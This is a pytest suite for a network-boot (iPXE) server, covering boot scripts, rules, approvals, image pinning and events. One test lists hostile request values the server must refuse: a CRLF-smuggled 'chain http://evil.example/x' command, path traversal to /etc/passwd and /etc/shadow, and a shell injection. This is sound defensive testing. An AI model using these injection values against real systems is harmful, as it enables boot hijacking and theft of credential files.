"""The boot endpoints over real loopback HTTP, against a real image library."""

import logging
import socket
import time

import httpx
import pytest

from netslate.boot import store
from netslate.server.auth import local_principal
from netslate.services import Services
from netslate import inventory

MAC_A, MAC_B, MAC_NEW = "52:54:00:0a:00:01", "52:54:00:0b:00:02", "52:54:00:0c:00:03"


def _image(ctx, tmp_path, name, versions=1, tag="stable"):
    out = []
    for i in range(versions):
        k = tmp_path / f"{name}-k{i}"
        r = tmp_path / f"{name}-i{i}"
        k.write_bytes(f"kernel {name} {i}".encode() * 100)
        r.write_bytes(f"initrd {name} {i}".encode() * 100)
        out.append(ctx.library.import_files(name, kernel=k, initrd=r, tag=tag if i == 0 else None, warn=lambda m: None))
    return out


def _q(mac, **kw):
    params = {"mac": mac, "uuid": "", "serial": "", "manufacturer": "QEMU", "product": "Standard PC (i440FX + PIIX, 1996)",
              "arch": "x86_64", "platform": "pcbios", "asset": ""}
    params.update(kw)
    return params


def _script(srv, mac, **kw):
    r = httpx.get(f"{srv.url}/boot/ipxe", params=_q(mac, **kw), timeout=10)
    assert r.status_code == 200, r.text
    assert r.text.startswith("#!ipxe\n")
    return r.text


def _kernel_line(script):
    lines = [line for line in script.splitlines() if line.startswith("kernel ")]
    assert len(lines) == 1, script
    return lines[0]


def test_boot_chain_points_to_boot_script(live_server):
    r = httpx.get(f"{live_server.url}/boot.ipxe", timeout=10)
    assert r.status_code == 200 and r.text.startswith("#!ipxe\n")
    assert (f"chain --autofree --replace {live_server.url}/boot/ipxe?mac=${{net0/mac}}&uuid=${{uuid}}&serial=${{serial:uristring}}"
            f"&manufacturer=${{manufacturer:uristring}}&product=${{product:uristring}}&arch=${{buildarch}}&platform=${{platform}}"
            f"&asset=${{asset:uristring}}") in r.text


def test_boot_two_macs_two_profiles_and_events(live_server, tmp_path):
    ctx = live_server.ctx
    desk = _image(ctx, tmp_path, "desk")[0]
    _image(ctx, tmp_path, "compute")
    inventory.add_machine(ctx, [MAC_A], name="a")
    inventory.add_machine(ctx, [MAC_B], name="b", labels={"role": "hpc"})
    store.add_profile(ctx, "desktop", image="desk", ref="stable", args=["quiet"])
    store.add_profile(ctx, "hpc", image="compute", ref="1", console="ttyS0,115200n8")
    store.add_rule(ctx, "a", {"mac": MAC_A}, "desktop", priority=10)
    with pytest.raises(store.UserError, match="ties with"):
        store.add_rule(ctx, "hpc", {"label": {"role": "hpc"}}, "hpc", priority=10)
    store.add_rule(ctx, "hpc", {"label": {"role": "hpc"}}, "hpc", priority=5)
    # Only the active set counts: before activation nobody matches.
    assert "no boot rule matches" in _script(live_server, MAC_A)
    store.activate_rules(ctx)

    sa, sb = _script(live_server, MAC_A), _script(live_server, MAC_B)
    ka, kb = _kernel_line(sa), _kernel_line(sb)
    digest = ctx.library.resolve("desk", "stable").manifest_digest
    assert ka.startswith(f"kernel {live_server.url}/images/desk/{desk['version']}/kernel initrd=initrd ")
    for a in (f"netslate.server={live_server.url}", f"netslate.image=desk@{desk['version']}", f"netslate.manifest={digest}",
              "netslate.mode=ram", "quiet"):
        assert f" {a} " in ka + " "
    assert "console=" not in ka
    assert kb.startswith(f"kernel {live_server.url}/images/compute/1/kernel") and " console=ttyS0,115200n8" in kb
    assert f"initrd --name initrd {live_server.url}/images/compute/1/initrd || goto ns_boot_fail" in sb
    # the URLs in the script really serve the image's kernel
    assert httpx.get(f"{live_server.url}/images/desk/{desk['version']}/kernel", timeout=10).content == b"kernel desk 0" * 100

    events = httpx.get(f"{live_server.url}/api/v1/boot/events", timeout=10).json()
    kinds = [(e["mac"], e["kind"], e["rule"], e["profile"], e["image"], e["version"]) for e in events[:2]]
    assert (MAC_B, "image", "hpc", "hpc", "compute", 1) in kinds and (MAC_A, "image", "a", "desktop", "desk", 1) in kinds
    # inventory changes are seen by the very next request (machine rows are read per request)
    inventory.label_machine(ctx, "b", {}, ["role"])
    assert "no boot rule matches" in _script(live_server, MAC_B)
    inventory.label_machine(ctx, "b", {"role": "hpc"}, [])
    assert "/images/compute/1/kernel" in _kernel_line(_script(live_server, MAC_B))


def test_boot_hold_approve_then_boot(live_server, tmp_path):
    ctx = live_server.ctx
    _image(ctx, tmp_path, "desk")
    store.add_profile(ctx, "desktop", image="desk", ref="stable")
    store.add_rule(ctx, "all", {}, "desktop")
    store.activate_rules(ctx)
    store.set_policy(ctx, "hold", retry_seconds=7)

    s = _script(live_server, MAC_NEW, uuid="4C4C4544-0042-3510-8052-B4C04F4E4D31", serial="SN 42", manufacturer="Dell Inc.")
    assert "waiting for approval" in s and "sleep 7" in s and "kernel " not in s
    assert "/boot/ipxe?mac=${net0/mac}" in s  # asks again with fresh facts
    machines = httpx.get(f"{live_server.url}/api/v1/machines", params={"state": "discovered"}, timeout=10).json()
    assert len(machines) == 1
    m = machines[0]
    assert m["macs"] == [MAC_NEW] and m["uuid"] == "4c4c4544-0042-3510-8052-b4c04f4e4d31" and m["serial"] == "SN 42"
    assert m["manufacturer"] == "Dell Inc." and m["reported"]["arch"] == "x86_64" and m["approved"] is False
    assert "waiting for approval" in _script(live_server, MAC_NEW)  # still held, not discovered twice
    assert len(httpx.get(f"{live_server.url}/api/v1/machines", timeout=10).json()) == 1

    # approving needs the operator role
    assert httpx.post(f"{live_server.url}/api/v1/machines/{m['id']}/approve", timeout=10).status_code == 401
    r = httpx.post(f"{live_server.url}/api/v1/machines/{m['id']}/approve", timeout=10,
                   headers={"Authorization": f"Bearer {live_server.admin_token}"})
    assert r.status_code == 200 and r.json()["state"] == "approved"
    assert _kernel_line(_script(live_server, MAC_NEW)).startswith(f"kernel {live_server.url}/images/desk/1/kernel")
    kinds = [e["kind"] for e in store.list_events(ctx) if e["mac"] == MAC_NEW] if live_server.app.state.parts.boot_engine.events.flush() else []
    assert kinds == ["image", "hold", "hold"]


def test_boot_default_policy_boots_unknown_machine(live_server, tmp_path):
    ctx = live_server.ctx
    _image(ctx, tmp_path, "desk")
    store.add_profile(ctx, "desktop", image="desk", ref="stable")
    store.add_rule(ctx, "bios", {"platform": "bios"}, "desktop")
    store.activate_rules(ctx)
    assert "netslate.image=desk@1" in _kernel_line(_script(live_server, MAC_NEW))
    assert inventory.show_machine(ctx, MAC_NEW)["state"] == "discovered"
    # an EFI machine matches no rule: it waits and asks again, it does not drop to a prompt
    s = _script(live_server, "52:54:00:0d:00:04", platform="efi")
    assert "no boot rule matches" in s and "goto ns_wait" in s


def test_boot_tag_move_and_pin(live_server, tmp_path):
    ctx = live_server.ctx
    _image(ctx, tmp_path, "desk", versions=3)  # v1 is stable
    inventory.add_machine(ctx, [MAC_A])
    inventory.add_machine(ctx, [MAC_B])
    store.add_profile(ctx, "desktop", image="desk", ref="stable", args=["quiet"])
    store.add_rule(ctx, "all", {}, "desktop")
    store.activate_rules(ctx)
    assert "netslate.image=desk@1 " in _kernel_line(_script(live_server, MAC_A))
    ctx.library.set_tag("desk", 3, "stable")  # roll forward every machine on the tag
    assert "netslate.image=desk@3 " in _kernel_line(_script(live_server, MAC_A))
    assert f"/images/desk/3/kernel" in _kernel_line(_script(live_server, MAC_B))
    store.pin_machine(ctx, MAC_B, "desk@2")  # roll back one machine
    images = Services.local(live_server.app.state.parts, local_principal()).images  # the in-use check lives in the images service
    with pytest.raises(store.Conflict, match="pinned to desk@2"):
        images.remove_version("desk", 2)
    kb = _kernel_line(_script(live_server, MAC_B))
    assert "/images/desk/2/kernel" in kb and "netslate.image=desk@2 " in kb and " quiet" in kb
    assert f"netslate.manifest={ctx.library.resolve('desk', '2').manifest_digest}" in kb
    assert "netslate.image=desk@3 " in _kernel_line(_script(live_server, MAC_A))
    store.unpin_machine(ctx, MAC_B)
    assert "netslate.image=desk@3 " in _kernel_line(_script(live_server, MAC_B))
    live_server.app.state.parts.boot_engine.events.flush()
    pinned = [e for e in store.list_events(ctx) if e["pinned"]]
    assert len(pinned) == 1 and pinned[0]["version"] == 2


def test_boot_menu_and_local(live_server, tmp_path):
    ctx = live_server.ctx
    _image(ctx, tmp_path, "desk", versions=3)
    ctx.library.set_tag("desk", 2, "stable")
    inventory.add_machine(ctx, [MAC_A])
    inventory.add_machine(ctx, [MAC_B])
    store.add_profile(ctx, "pick", kind="menu", image="desk", ref="stable")
    store.add_profile(ctx, "disk", kind="local")
    store.add_rule(ctx, "menu", {"mac": MAC_A}, "pick")
    store.add_rule(ctx, "local", {"mac": MAC_B}, "disk")
    store.activate_rules(ctx)
    s = _script(live_server, MAC_A)
    items = [line for line in s.splitlines() if line.startswith("item ns_v")]
    assert [i.split()[1] for i in items] == ["ns_v3", "ns_v2", "ns_v1"]
    assert "[stable]" in items[1] and "[stable]" not in items[0]
    assert "choose --default ns_v2" in s
    assert f"kernel {live_server.url}/images/desk/1/kernel" in s
    sl = _script(live_server, MAC_B, platform="efi")
    assert "exit 0" in sl and "kernel " not in sl


def _raw_get(srv, target: bytes) -> int:
    host, port = srv.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as s:
        s.sendall(b"GET " + target + b" HTTP/1.1\r\nHost: " + f"{host}:{port}".encode() + b"\r\nConnection: close\r\n\r\n")
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    return int(data.split(b" ", 2)[1])


def test_boot_hostile_requests_refused_and_logged(live_server, caplog):
    caplog.set_level(logging.WARNING)
    ok = f"mac={MAC_A}".encode()
    cases = {
        b"/boot/ipxe?" + ok + b"&serial=" + b"A" * 5000: 414,
        b"/boot/ipxe?" + ok + b"&serial=\xff\xfe\xfd": 400,
        b"/boot/ipxe?" + ok + b"&serial=%ff%fe": 400,
        b"/boot/ipxe?" + ok + b"&product=x%0a%0dchain%20http://evil.example/x": 400,
        b"/boot/ipxe?" + ok + b"&manufacturer=%24%7Bnet0/ip%7D": 400,
        b"/boot/ipxe?mac=..%2F..%2F..%2Fetc%2Fpasswd": 400,
        b"/boot/ipxe?" + ok + b"&arch=../../../../etc/shadow": 400,
        b"/boot/ipxe?" + ok + b"&platform=pcbios%0Ashell": 400,
        b"/boot/ipxe?" + ok + b"&x=" + b"1" * 100: 400,
    }
    for target, want in cases.items():
        assert _raw_get(live_server, target) == want, target[:80]
    refused = [r for r in caplog.records if "refused boot request" in r.getMessage()]
    # raw non-ASCII bytes in the request line are refused (400) and logged by the HTTP parser itself
    assert len(refused) == len(cases) - 1
    assert any(r.name == "uvicorn.error" and "Invalid HTTP request" in r.getMessage() for r in caplog.records)
    # a hostile Host header never becomes a URL in a script
    r = httpx.get(f"{live_server.url}/boot.ipxe", headers={"Host": "evil\tchain"}, timeout=10)
    assert r.status_code in (400, 200) and "evil" not in r.text
    # nothing was recorded for the refused requests
    assert httpx.get(f"{live_server.url}/api/v1/machines", timeout=10).json() == []


def test_boot_explain_api(live_server, tmp_path):
    ctx = live_server.ctx
    _image(ctx, tmp_path, "desk")
    inventory.add_machine(ctx, [MAC_A], labels={"room": "b12"})
    store.add_profile(ctx, "desktop", image="desk", ref="stable")
    store.add_profile(ctx, "disk", kind="local")
    store.add_rule(ctx, "room", {"label": {"room": "b12"}}, "desktop", priority=5)
    store.add_rule(ctx, "rest", {}, "disk")
    store.activate_rules(ctx)
    d = httpx.get(f"{live_server.url}/api/v1/boot/explain/{MAC_A}", timeout=10).json()
    assert d["known"] and d["rule"] == "room" and d["profile"] == "desktop" and d["version"] == 1
    assert "netslate.image=desk@1" in d["script"]
    room = next(r for r in d["rules"]["rules"] if r["name"] == "room")
    assert room["matches"] and room["selectors"][0]["have"] == {"room": "b12"}
    d2 = httpx.get(f"{live_server.url}/api/v1/boot/explain/{MAC_B}", timeout=10).json()
    assert not d2["known"] and d2["rule"] == "rest" and d2["kind"] == "local"
    assert httpx.get(f"{live_server.url}/api/v1/boot/explain/nonsense%0a", timeout=10).status_code == 400


def test_boot_site_policy_by_subnet(live_server, tmp_path):
    from netslate.discovery import store as dstore

    ctx = live_server.ctx
    _image(ctx, tmp_path, "desk")
    store.add_profile(ctx, "desktop", image="desk", ref="stable")
    store.add_rule(ctx, "all", {}, "desktop")
    store.activate_rules(ctx)
    store.set_policy(ctx, "hold", site="lab", retry_seconds=5)
    # default site boots unknown machines; 127.0.0.1 is not in any site yet
    assert "netslate.image=desk@1" in _script(live_server, MAC_A)
    dstore.add_site(ctx, "lab")
    dstore.add_subnet(ctx, "lab", "127.0.0.0/8")
    s = _script(live_server, MAC_NEW)
    assert "waiting for approval" in s and "sleep 5" in s
    assert "waiting for approval" in _script(live_server, MAC_A)  # not approved either, now in site lab
    inventory.label_machine(ctx, MAC_A, {"site": "default"}, [])  # a site label beats the subnet
    assert "netslate.image=desk@1" in _script(live_server, MAC_A)
    e = httpx.get(f"{live_server.url}/api/v1/boot/explain/{MAC_NEW}", params={"address": "127.0.0.9"}, timeout=10).json()
    assert e["site"] == "lab" and e["kind"] == "hold"


def test_boot_events_flushed_on_shutdown(ctx):
    from nstest import start_server

    srv = start_server(ctx)
    srv.app.state.parts.boot_engine.events.interval = 3600  # nothing is written on the timer in this test
    try:
        for i in range(20):
            _script(srv, f"52:54:00:0e:00:{i:02x}")
    finally:
        assert store.count_events(ctx) == 0
        srv.stop()
    assert store.count_events(ctx) == 20
